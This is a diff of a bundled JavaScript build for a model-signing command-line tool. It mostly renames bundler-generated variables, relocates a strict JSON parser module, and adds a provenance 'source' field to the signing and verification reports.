@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path25 = __require("node:path");
+    var path28 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path25.resolve(baseDir, baseName);
+          const localBin = path28.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path25.extname(baseName))) return void 0;
+          if (sourceExt.includes(path28.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path25.resolve(
-            path25.dirname(resolvedScriptPath),
+          executableDir = path28.resolve(
+            path28.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path25.basename(
+            const legacyName = path28.basename(
               this._scriptPath,
-              path25.extname(this._scriptPath)
+              path28.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path25.extname(executableFile));
+        launchWithNode = sourceExt.includes(path28.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path25.basename(filename, path25.extname(filename));
+        this._name = path28.basename(filename, path28.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path26) {
-        if (path26 === void 0) return this._executableDir;
-        this._executableDir = path26;
+      executableDir(path29) {
+        if (path29 === void 0) return this._executableDir;
+        this._executableDir = path29;
         return this;
       }
       /**
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "reject" } : { kind: "reject", path: path25 });
+function reject(code, message, path28) {
+  return new ModelsignError(code, message, path28 === void 0 ? { kind: "reject" } : { kind: "reject", path: path28 });
 }
-function usage(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "usage" } : { kind: "usage", path: path25 });
+function usage(code, message, path28) {
+  return new ModelsignError(code, message, path28 === void 0 ? { kind: "usage" } : { kind: "usage", path: path28 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -3616,6 +3616,184 @@ var init_io = __esm({
   }
 });
 
+// src/util/strict-json.ts
+function parseStrictJson(text, opts = {}) {
+  const maxDepth = opts.maxDepth ?? 64;
+  const what = opts.what ?? "JSON";
+  const code = opts.code ?? "JSON_MALFORMED";
+  let i = 0;
+  const fail = (msg) => {
+    throw reject(code, `${what} is not valid JSON: ${msg} at offset ${i}`);
+  };
+  const ws2 = () => {
+    for (; ; ) {
+      const c = text.charCodeAt(i);
+      if (c === 32 || c === 10 || c === 13 || c === 9) i++;
+      else return;
+    }
+  };
+  const parseString = () => {
+    i++;
+    const q2 = text.indexOf('"', i);
+    if (q2 < 0) {
+      i = text.length;
+      fail("unterminated string");
+    }
+    const plain = text.slice(i, q2);
+    if (!NEEDS_SLOW_STRING.test(plain)) {
+      i = q2 + 1;
+      return plain;
+    }
+    let out2 = "";
+    let start = i;
+    for (; ; ) {
+      if (i >= text.length) fail("unterminated string");
+      const c = text.charCodeAt(i);
+      if (c === 34) {
+        out2 += text.slice(start, i);
+        i++;
+        return out2;
+      }
+      if (c < 32) fail("control character in string");
+      if (c === 92) {
+        out2 += text.slice(start, i);
+        const e = text[i + 1];
+        i += 2;
+        switch (e) {
+          case '"':
+            out2 += '"';
+            break;
+          case "\\":
+            out2 += "\\";
+            break;
+          case "/":
+            out2 += "/";
+            break;
+          case "b":
+            out2 += "\b";
+            break;
+          case "f":
+            out2 += "\f";
+            break;
+          case "n":
+            out2 += "\n";
+            break;
+          case "r":
+            out2 += "\r";
+            break;
+          case "t":
+            out2 += "	";
+            break;
+          case "u": {
+            const hex = text.slice(i, i + 4);
+            if (!/^[0-9a-fA-F]{4}$/.test(hex)) fail("bad \\u escape");
+            out2 += String.fromCharCode(parseInt(hex, 16));
+            i += 4;
+            break;
+          }
+          default:
+            fail("bad escape");
+        }
+        start = i;
+        continue;
+      }
+      i++;
+    }
+  };
+  const numberRe = /-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/y;
+  const parseValue2 = (depth) => {
+    if (depth > maxDepth) fail(`nesting deeper than ${maxDepth}`);
+    ws2();
+    const c = text[i];
+    if (c === "{") {
+      i++;
+      const obj = /* @__PURE__ */ Object.create(null);
+      ws2();
+      if (text[i] === "}") {
+        i++;
+        return obj;
+      }
+      for (; ; ) {
+        ws2();
+        if (text[i] !== '"') fail("expected a key");
+        const key = parseString();
+        if (Object.prototype.hasOwnProperty.call(obj, key)) fail(`duplicate key "${key.slice(0, 80)}"`);
+        ws2();
+        if (text[i] !== ":") fail('expected ":"');
+        i++;
+        obj[key] = parseValue2(depth + 1);
+        ws2();
+        if (text[i] === ",") {
+          i++;
+          continue;
+        }
+        if (text[i] === "}") {
+          i++;
+          return obj;
+        }
+        fail('expected "," or "}"');
+      }
+    }
+    if (c === "[") {
+      i++;
+      const arr = [];
+      ws2();
+      if (text[i] === "]") {
+        i++;
+        return arr;
+      }
+      for (; ; ) {
+        arr.push(parseValue2(depth + 1));
+        ws2();
+        if (text[i] === ",") {
+          i++;
+          continue;
+        }
+        if (text[i] === "]") {
+          i++;
+          return arr;
+        }
+        fail('expected "," or "]"');
+      }
+    }
+    if (c === '"') return parseString();
+    if (text.startsWith("true", i)) {
+      i += 4;
+      return true;
+    }
+    if (text.startsWith("false", i)) {
+      i += 5;
+      return false;
+    }
+    if (text.startsWith("null", i)) {
+      i += 4;
+      return null;
+    }
+    numberRe.lastIndex = i;
+    const m2 = numberRe.exec(text);
+    if (m2 && m2[0].length > 0) {
+      i += m2[0].length;
+      return Number(m2[0]);
+    }
+    return fail("unexpected character");
+  };
+  const value = parseValue2(0);
+  ws2();
+  if (i !== text.length) fail("trailing data");
+  return value;
+}
+function isObject(v2) {
+  return typeof v2 === "object" && v2 !== null && !Array.isArray(v2);
+}
+var NEEDS_SLOW_STRING;
+var init_strict_json = __esm({
+  "src/util/strict-json.ts"() {
+    "use strict";
+    init_errors();
+    NEEDS_SLOW_STRING = /[\u0000-\u001f\\]/;
+  }
+});
+
 // src/cli/report.ts
 function verifyJson(r) {
   return {
@@ -3626,6 +3804,7 @@ function verifyJson(r) {
     name: r.metadata?.name ?? r.subjectName ?? null,
     version: r.metadata?.version ?? null,
     license: r.metadata?.license ?? null,
+    source: r.metadata?.source ?? null,
     signer: r.signer ?? null,
     signerInfo: r.signerInfo ?? null,
     filesChecked: r.filesChecked,
@@ -3633,6 +3812,12 @@ function verifyJson(r) {
     failures: r.failures,
     ...r.reports
   };
+}
+function provenanceText(meta) {
+  const p2 = meta?.source;
+  if (!isObject(p2)) return void 0;
+  const parts = Object.entries(p2).flatMap(([k2, v2]) => typeof v2 === "string" ? [`${k2}=${v2}`] : []);
+  return parts.length > 0 ? clean(parts.join(" "), 1e3) : void 0;
 }
 function resultLabel(r) {
   return r.metadata ? `${r.metadata.name}${r.metadata.version ? `@${r.metadata.version}` : ""}` : r.subjectName ?? r.model;
@@ -3642,18 +3827,21 @@ async function reportSigned(r, model, o, engine, lineage, extra = {}) {
   await lineage?.record(r);
   if (r.files === 0) warn(`no files to sign in ${model}: the signature covers nothing`);
   const meta = r.statement.subject[0].annotations?.modelsign;
+  const source = provenanceText(meta);
   if (o.json) {
-    printJson({ signature: r.signaturePath, rootDigest: `sha256:${r.rootDigest}`, name: meta?.name, version: meta?.version, license: meta?.license, files: r.files, bytes: r.bytes, ...extra.json });
+    printJson({ signature: r.signaturePath, rootDigest: `sha256:${r.rootDigest}`, name: meta?.name, version: meta?.version, license: meta?.license, source: meta?.source ?? null, files: r.files, bytes: r.bytes, ...extra.json });
   } else {
     out(`signed ${meta?.name}@${meta?.version} (${r.files} files, ${r.bytes} bytes)
   root digest: sha256:${r.rootDigest}
-  signature:   ${r.signaturePath}${extra.text ?? ""}`);
+  signature:   ${r.signaturePath}${source ? `
+  source:      ${source}` : ""}${extra.text ?? ""}`);
   }
 }
 var init_report = __esm({
   "src/cli/report.ts"() {
     "use strict";
     init_one_line();
+    init_strict_json();
     init_io();
   }
 });
@@ -4154,12 +4342,12 @@ function runCipher(core2, sigma, key, nonce, data, output2, counter, rounds) {
       swap32IfBE(b32);
       if (counter >= MAX_COUNTER)
         throw new Error("arx: counter overflow");
-      const take = Math.min(BLOCK_LEN, len - pos);
-      for (let j2 = 0, posj; j2 < take; j2++) {
+      const take2 = Math.min(BLOCK_LEN, len - pos);
+      for (let j2 = 0, posj; j2 < take2; j2++) {
         posj = pos + j2;
         output2[posj] = data[posj] ^ block[j2];
       }
-      pos += take;
+      pos += take2;
     }
     return;
   }
@@ -4167,8 +4355,8 @@ function runCipher(core2, sigma, key, nonce, data, output2, counter, rounds) {
     core2(sigma, key, nonce, b32, counter, rounds);
     if (counter >= MAX_COUNTER)
       throw new Error("arx: counter overflow");
-    const take = Math.min(BLOCK_LEN, len - pos);
-    if (isAligned && take === BLOCK_LEN) {
+    const take2 = Math.min(BLOCK_LEN, len - pos);
+    if (isAligned && take2 === BLOCK_LEN) {
       const pos32 = pos / 4;
       if (pos % 4 !== 0)
         throw new Error("arx: invalid block position");
@@ -4179,11 +4367,11 @@ function runCipher(core2, sigma, key, nonce, data, output2, counter, rounds) {
       pos += BLOCK_LEN;
       continue;
     }
-    for (let j2 = 0, posj; j2 < take; j2++) {
+    for (let j2 = 0, posj; j2 < take2; j2++) {
       posj = pos + j2;
       output2[posj] = data[posj] ^ block[j2];
     }
-    pos += take;
+    pos += take2;
   }
 }
 function createCipher(core2, opts) {
@@ -4479,15 +4667,15 @@ var init_poly1305 = __esm({
         const { buffer, blockLen } = this;
         const len = data.length;
         for (let pos = 0; pos < len; ) {
-          const take = Math.min(blockLen - this.pos, len - pos);
-          if (take === blockLen) {
+          const take2 = Math.min(blockLen - this.pos, len - pos);
+          if (take2 === blockLen) {
             for (; blockLen <= len - pos; pos += blockLen)
               this.process(data, pos);
             continue;
           }
-          buffer.set(data.subarray(pos, pos + take), this.pos);
-          this.pos += take;
-          pos += take;
+          buffer.set(data.subarray(pos, pos + take2), this.pos);
+          this.pos += take2;
+          pos += take2;
           if (this.pos === blockLen) {
             this.process(buffer, 0, false);
             this.pos = 0;
@@ -4861,184 +5049,6 @@ var init_keyfile = __esm({
     MAX_KEY_FILE = 1024 * 1024;
     VERIFY_NEEDS_PUBLIC = "verify needs the public key (.pub)";
     SIGN_NEEDS_PRIVATE = "sign needs the private key (.key)";
-  }
-});
-
-// src/util/strict-json.ts
-function parseStrictJson(text, opts = {}) {
-  const maxDepth = opts.maxDepth ?? 64;
-  const what = opts.what ?? "JSON";
-  const code = opts.code ?? "JSON_MALFORMED";
-  let i = 0;
-  const fail = (msg) => {
-    throw reject(code, `${what} is not valid JSON: ${msg} at offset ${i}`);
-  };
-  const ws2 = () => {
-    for (; ; ) {
-      const c = text.charCodeAt(i);
-      if (c === 32 || c === 10 || c === 13 || c === 9) i++;
-      else return;
-    }
-  };
-  const parseString = () => {
-    i++;
-    const q2 = text.indexOf('"', i);
-    if (q2 < 0) {
-      i = text.length;
-      fail("unterminated string");
-    }
-    const plain = text.slice(i, q2);
-    if (!NEEDS_SLOW_STRING.test(plain)) {
-      i = q2 + 1;
-      return plain;
-    }
-    let out2 = "";
-    let start = i;
-    for (; ; ) {
-      if (i >= text.length) fail("unterminated string");
-      const c = text.charCodeAt(i);
-      if (c === 34) {
-        out2 += text.slice(start, i);
-        i++;
-        return out2;
-      }
-      if (c < 32) fail("control character in string");
-      if (c === 92) {
-        out2 += text.slice(start, i);
-        const e = text[i + 1];
-        i += 2;
-        switch (e) {
-          case '"':
-            out2 += '"';
-            break;
-          case "\\":
-            out2 += "\\";
-            break;
-          case "/":
-            out2 += "/";
-            break;
-          case "b":
-            out2 += "\b";
-            break;
-          case "f":
-            out2 += "\f";
-            break;
-          case "n":
-            out2 += "\n";
-            break;
-          case "r":
-            out2 += "\r";
-            break;
-          case "t":
-            out2 += "	";
-            break;
-          case "u": {
-            const hex = text.slice(i, i + 4);
-            if (!/^[0-9a-fA-F]{4}$/.test(hex)) fail("bad \\u escape");
-            out2 += String.fromCharCode(parseInt(hex, 16));
-            i += 4;
-            break;
-          }
-          default:
-            fail("bad escape");
-        }
-        start = i;
-        continue;
-      }
-      i++;
-    }
-  };
-  const numberRe = /-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/y;
-  const parseValue2 = (depth) => {
-    if (depth > maxDepth) fail(`nesting deeper than ${maxDepth}`);
-    ws2();
-    const c = text[i];
-    if (c === "{") {
-      i++;
-      const obj = /* @__PURE__ */ Object.create(null);
-      ws2();
-      if (text[i] === "}") {
-        i++;
-        return obj;
-      }
-      for (; ; ) {
-        ws2();
-        if (text[i] !== '"') fail("expected a key");
-        const key = parseString();
-        if (Object.prototype.hasOwnProperty.call(obj, key)) fail(`duplicate key "${key.slice(0, 80)}"`);
-        ws2();
-        if (text[i] !== ":") fail('expected ":"');
-        i++;
-        obj[key] = parseValue2(depth + 1);
-        ws2();
-        if (text[i] === ",") {
-          i++;
-          continue;
-        }
-        if (text[i] === "}") {
-          i++;
-          return obj;
-        }
-        fail('expected "," or "}"');
-      }
-    }
-    if (c === "[") {
-      i++;
-      const arr = [];
-      ws2();
-      if (text[i] === "]") {
-        i++;
-        return arr;
-      }
-      for (; ; ) {
-        arr.push(parseValue2(depth + 1));
-        ws2();
-        if (text[i] === ",") {
-          i++;
-          continue;
-        }
-        if (text[i] === "]") {
-          i++;
-          return arr;
-        }
-        fail('expected "," or "]"');
-      }
-    }
-    if (c === '"') return parseString();
-    if (text.startsWith("true", i)) {
-      i += 4;
-      return true;
-    }
-    if (text.startsWith("false", i)) {
-      i += 5;
-      return false;
-    }
-    if (text.startsWith("null", i)) {
-      i += 4;
-      return null;
-    }
-    numberRe.lastIndex = i;
-    const m2 = numberRe.exec(text);
-    if (m2 && m2[0].length > 0) {
-      i += m2[0].length;
-      return Number(m2[0]);
-    }
-    return fail("unexpected character");
-  };
-  const value = parseValue2(0);
-  ws2();
-  if (i !== text.length) fail("trailing data");
-  return value;
-}
-function isObject(v2) {
-  return typeof v2 === "object" && v2 !== null && !Array.isArray(v2);
-}
-var NEEDS_SLOW_STRING;
-var init_strict_json = __esm({
-  "src/util/strict-json.ts"() {
-    "use strict";
-    init_errors();
-    NEEDS_SLOW_STRING = /[\u0000-\u001f\\]/;
   }
 });
 
@@ -7521,17 +7531,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path25) {
-      const ctrl = callVisitor(key, node, visitor, path25);
+    function visit_(key, node, visitor, path28) {
+      const ctrl = callVisitor(key, node, visitor, path28);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visit_(key, ctrl, visitor, path25);
+        replaceNode(key, path28, ctrl);
+        return visit_(key, ctrl, visitor, path28);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path28 = Object.freeze(path28.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path25);
+            const ci2 = visit_(i, node.items[i], visitor, path28);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7542,13 +7552,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = visit_("key", node.key, visitor, path25);
+          path28 = Object.freeze(path28.concat(node));
+          const ck = visit_("key", node.key, visitor, path28);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path25);
+          const cv = visit_("value", node.value, visitor, path28);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7569,17 +7579,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path25) {
-      const ctrl = await callVisitor(key, node, visitor, path25);
+    async function visitAsync_(key, node, visitor, path28) {
+      const ctrl = await callVisitor(key, node, visitor, path28);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visitAsync_(key, ctrl, visitor, path25);
+        replaceNode(key, path28, ctrl);
+        return visitAsync_(key, ctrl, visitor, path28);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path28 = Object.freeze(path28.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path25);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path28);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7590,13 +7600,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path25);
+          path28 = Object.freeze(path28.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path28);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path25);
+          const cv = await visitAsync_("value", node.value, visitor, path28);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7623,23 +7633,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path25) {
+    function callVisitor(key, node, visitor, path28) {
       if (typeof visitor === "function")
-        return visitor(key, node, path25);
+        return visitor(key, node, path28);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path25);
+        return visitor.Map?.(key, node, path28);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path25);
+        return visitor.Seq?.(key, node, path28);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path25);
+        return visitor.Pair?.(key, node, path28);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path25);
+        return visitor.Scalar?.(key, node, path28);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path25);
+        return visitor.Alias?.(key, node, path28);
       return void 0;
     }
-    function replaceNode(key, path25, node) {
-      const parent = path25[path25.length - 1];
+    function replaceNode(key, path28, node) {
+      const parent = path28[path28.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8251,10 +8261,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path25, value) {
+    function collectionFromPath(schema, path28, value) {
       let v2 = value;
-      for (let i = path25.length - 1; i >= 0; --i) {
-        const k2 = path25[i];
+      for (let i = path28.length - 1; i >= 0; --i) {
+        const k2 = path28[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8273,7 +8283,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
+    var isEmptyPath = (path28) => path28 == null || typeof path28 === "object" && !!path28[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8303,11 +8313,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path25, value) {
-        if (isEmptyPath(path25))
+      addIn(path28, value) {
+        if (isEmptyPath(path28))
           this.add(value);
         else {
-          const [key, ...rest] = path25;
+          const [key, ...rest] = path28;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8321,8 +8331,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        const [key, ...rest] = path25;
+      deleteIn(path28) {
+        const [key, ...rest] = path28;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8336,8 +8346,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        const [key, ...rest] = path25;
+      getIn(path28, keepScalar) {
+        const [key, ...rest] = path28;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8355,8 +8365,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path25) {
-        const [key, ...rest] = path25;
+      hasIn(path28) {
+        const [key, ...rest] = path28;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8366,8 +8376,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        const [key, ...rest] = path25;
+      setIn(path28, value) {
+        const [key, ...rest] = path28;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -10882,9 +10892,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path25, value) {
+      addIn(path28, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path25, value);
+          this.contents.addIn(path28, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10959,14 +10969,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        if (Collection.isEmptyPath(path25)) {
+      deleteIn(path28) {
+        if (Collection.isEmptyPath(path28)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path28) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10981,10 +10991,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        if (Collection.isEmptyPath(path25))
+      getIn(path28, keepScalar) {
+        if (Collection.isEmptyPath(path28))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path28, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10995,10 +11005,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path25) {
-        if (Collection.isEmptyPath(path25))
+      hasIn(path28) {
+        if (Collection.isEmptyPath(path28))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path28) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11015,13 +11025,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        if (Collection.isEmptyPath(path25)) {
+      setIn(path28, value) {
+        if (Collection.isEmptyPath(path28)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path28), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path25, value);
+          this.contents.setIn(path28, value);
         }
       }
       /**
@@ -12982,9 +12992,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path25) => {
+    visit.itemAtPath = (cst, path28) => {
       let item = cst;
-      for (const [field, index] of path25) {
+      for (const [field, index] of path28) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12993,23 +13003,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path25) => {
-      const parent = visit.itemAtPath(cst, path25.slice(0, -1));
-      const field = path25[path25.length - 1][0];
+    visit.parentCollection = (cst, path28) => {
+      const parent = visit.itemAtPath(cst, path28.slice(0, -1));
+      const field = path28[path28.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path25, item, visitor) {
-      let ctrl = visitor(item, path25);
+    function _visit(path28, item, visitor) {
+      let ctrl = visitor(item, path28);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path28.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13020,10 +13030,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path25);
+            ctrl = ctrl(item, path28);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path25) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path28) : ctrl;
     }
     exports.visit = visit;
   }
@@ -20664,15 +20674,15 @@ var require_certificate = __commonJS({
       sort() {
         const leafCert = this.untrustedCert;
         let paths = this.buildPaths(leafCert);
-        paths = paths.filter((path26) => path26.some((cert) => this.trustedCerts.includes(cert)));
+        paths = paths.filter((path29) => path29.some((cert) => this.trustedCerts.includes(cert)));
         if (paths.length === 0) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "no trusted certificate path found"
           });
         }
-        const path25 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
-        return [leafCert, ...path25].slice(0, -1);
+        const path28 = paths.reduce((prev, curr) => prev.length < curr.length ? prev : curr);
+        return [leafCert, ...path28].slice(0, -1);
       }
       // Recursively build all possible paths from the leaf to the root
       buildPaths(certificate) {
@@ -20731,30 +20741,30 @@ var require_certificate = __commonJS({
         });
         return issuers;
       }
-      checkPath(path25) {
-        if (path25.length < 1) {
+      checkPath(path28) {
+        if (path28.length < 1) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "certificate chain must contain at least one certificate"
           });
         }
-        const validCAs = path25.slice(1).every((cert) => cert.isCA);
+        const validCAs = path28.slice(1).every((cert) => cert.isCA);
         if (!validCAs) {
           throw new error_1.VerificationError({
             code: "CERTIFICATE_ERROR",
             message: "intermediate certificate is not a CA"
           });
         }
-        for (let i = path25.length - 2; i >= 0; i--) {
-          if (!path25[i].issuer.equals(path25[i + 1].subject)) {
+        for (let i = path28.length - 2; i >= 0; i--) {
+          if (!path28[i].issuer.equals(path28[i + 1].subject)) {
             throw new error_1.VerificationError({
               code: "CERTIFICATE_ERROR",
               message: "incorrect certificate name chaining"
             });
           }
         }
-        for (let i = 0; i < path25.length; i++) {
-          const cert = path25[i];
+        for (let i = 0; i < path28.length; i++) {
+          const cert = path28[i];
           if (cert.extBasicConstraints?.isCA) {
             const pathLength = cert.extBasicConstraints.pathLenConstraint;
             if (pathLength !== void 0 && pathLength < i - 1) {
@@ -20858,13 +20868,13 @@ var require_key = __commonJS({
       return { key: key.publicKey };
     }
     function verifyCertificate(leaf, timestamps, trustMaterial) {
-      let path25 = [];
+      let path28 = [];
       timestamps.forEach((timestamp) => {
-        path25 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
+        path28 = (0, certificate_1.verifyCertificateChain)(timestamp, leaf, trustMaterial.certificateAuthorities);
       });
       return {
-        scts: (0, sct_1.verifySCTs)(path25[0], path25[1], trustMaterial.ctlogs),
-        signer: getSigner(path25[0])
+        scts: (0, sct_1.verifySCTs)(path28[0], path28[1], trustMaterial.ctlogs),
+        signer: getSigner(path28[0])
       };
     }
     function getSigner(cert) {
@@ -22430,7 +22440,7 @@ var require_file = __commonJS({
           ...this.unrecognizedFields
         };
       }
-      static fromJSON(path25, data) {
+      static fromJSON(path28, data) {
         const { length, hashes, ...rest } = data;
         if (typeof length !== "number") {
           throw new TypeError("length must be a number");
